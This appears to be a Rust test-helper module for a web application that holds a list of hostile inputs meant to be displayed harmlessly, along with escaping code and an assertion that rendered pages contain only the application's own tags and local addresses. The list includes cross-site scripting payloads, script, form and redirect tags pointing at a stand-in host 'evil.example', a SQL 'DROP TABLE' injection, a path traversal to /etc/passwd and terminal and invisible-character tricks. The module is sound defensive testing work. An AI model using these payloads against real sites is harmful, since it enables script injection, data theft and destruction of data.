//! What a stranger would write to break a page, a terminal or a reviewer's reading.

/// Each of these is meant to be shown and to do nothing.
pub(crate) fn strings() -> Vec<String> {
    let mut all: Vec<String> = PLAIN.iter().map(|text| (*text).to_owned()).collect();
    all.push("A".repeat(1_500));
    all.push(format!("{}<b>deep", "<div>".repeat(100)));
    all.push("&lt;".repeat(100));
    all.push(format!("x{}", "\u{300}".repeat(100)));
    all
}

const PLAIN: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><animate onbegin=alert(5) attributeName=x>",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(7)&gt;\">",
    "\"><script>alert(8)</script>",
    "'><script>alert(9)</script>",
    "\" onmouseover=\"alert(10)",
    "' onfocus='alert(11)' autofocus='",
    "\" formaction=\"//evil.example/",
    "</textarea><script>alert(12)</script>",
    "</pre></code></td></table><h1>approved</h1>",
    "</title><script>alert(13)</script>",
    "</option></select><button name=vote value=yes>Deny</button>",
    "<form action=//evil.example method=post><input type=submit value=Save>",
    "<input type=hidden name=csrf value=0>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<!-- --><!--",
    "<![CDATA[<script>alert(14)</script>]]>",
    "<?php echo 1; ?>",
    "javascript:alert(15)",
    "data:text/html,<script>alert(16)</script>",
    "{{ 7 * 7 }}",
    "{% include \"frame.html\" %}",
    "${alert(17)}",
    "#{alert(18)}",
    "&#60;script&#62;alert(19)&#60;/script&#62;",
    "&lt;script&gt;alert(20)&lt;/script&gt;",
    "%3Cscript%3Ealert(21)%3C/script%3E",
    "\\u003cscript\\u003ealert(22)\\u003c/script\\u003e",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "/* \u{202e} } \u{2066}if is_admin\u{2069} \u{2066} begin */",
    "pay\u{200b}load\u{feff}",
    "tag\u{e0001}\u{e0061}",
    "line\u{2028}separator\u{2029}",
    "carriage\rreturn",
    "back\u{8}space",
    "'; DROP TABLE votes; --",
    "../../../../etc/passwd",
    "\u{ff1c}script\u{ff1e}alert(23)\u{ff1c}/script\u{ff1e}",
];

/// As a page has to show it: sanitised, then escaped.
pub(crate) fn shown(text: &str) -> String {
    let mut out = String::new();
    for c in mfaas_ident::sanitise_line(text, 16_000).chars() {
        match c {
            '<' => out.push_str("&#60;"),
            '>' => out.push_str("&#62;"),
            '&' => out.push_str("&#38;"),
            '"' => out.push_str("&#34;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// A page without the colours of its source lines, which are spans of our own.
pub(crate) fn colourless(body: &str) -> String {
    let mut out = String::new();
    let mut rest = body;
    while let Some((before, behind)) = rest.split_once("<span class=\"t-") {
        let (_, behind) = behind.split_once("\">").expect("a class without an end");
        let (text, behind) = behind.split_once("</span>").expect("a colour without an end");
        out.extend([before, text]);
        rest = behind;
    }
    out + rest
}

/// Every element that our templates write; `<noscript>` is on the page of a running deployment alone.
const TAGS: &str = "!doctype a body br button caption code dd defs desc details div dl dt fieldset figcaption figure footer form g h1 h2 h3 head header \
    html input kbd label legend li line link main mark marker meta nav option p path pattern pre rect script section select span strong \
    summary svg table tbody td text textarea th thead title tr ul";
const ATTRIBUTES: &str = "action aria-current aria-hidden aria-label aria-labelledby autocomplete charset checked class content d \
    data-hotspot data-state fill for height href html id lang marker-end markerHeight markerWidth max maxlength method min \
    name nonce orient patternTransform patternUnits placeholder refX refY rel required role rows rx scope selected spellcheck src tabindex type value viewBox \
    width x x1 x2 y y1 y2";

/// Every tag of a page is one that our templates write, with attributes that they write, and every address
/// stays on this server. Nothing that changes how text is shown is among it.
pub(crate) fn assert_only_our_markup(path: &str, body: &str) {
    let is_invisible = |c: char| mfaas_ident::sanitise_line(&c.to_string(), 20).len() != c.len_utf8();
    let control = body.chars().find(|c| !matches!(c, '\n' | '\t') && is_invisible(*c));
    assert_eq!(control, None, "{path} lets a character through that shows nothing");
    for tag in body.split('<').skip(1) {
        let (tag, _) = tag.split_once('>').unwrap_or_else(|| panic!("{path}: <{tag:.80} has no end"));
        let tag = tag.trim_start_matches('/');
        let (name, rest) = tag.split_once([' ', '\n']).unwrap_or((tag, ""));
        assert!(TAGS.split(' ').any(|known| known == name), "{path}: <{tag}>");
        let attributes = attributes(rest);
        for (attribute, value) in &attributes {
            assert!(ATTRIBUTES.split(' ').any(|known| known == *attribute), "{path}: <{tag}>");
            let is_address = ["href", "src", "action"].contains(attribute);
            let is_here = value.starts_with('#') || (value.starts_with('/') && !value.starts_with("//"));
            assert!(!is_address || is_here, "{path}: <{tag}>");
        }
        let is_signed =
            attributes.iter().any(|(attribute, value)| *attribute == "nonce" && !value.is_empty());
        assert!(name != "script" || tag == "script" || is_signed, "{path}: <{tag}>");
    }
}

/// The elements of a document that a browser makes of our pages.
pub(crate) fn elements() -> Vec<&'static str> {
    TAGS.split(' ').filter(|tag| !tag.starts_with('!')).chain(["noscript"]).collect()
}

/// The attributes of a tag with their values.
fn attributes(mut rest: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            return found;
        }
        let end = rest.find([' ', '\n', '=']).unwrap_or(rest.len());
        let (name, behind) = rest.split_at(end);
        match behind.strip_prefix("=\"") {
            Some(value) => {
                let (value, behind) = value.split_once('"').expect("a value without an end");
                found.push((name, value));
                rest = behind;
            }
            None => {
                found.push((name, ""));
                rest = behind;
            }
        }
    }
}
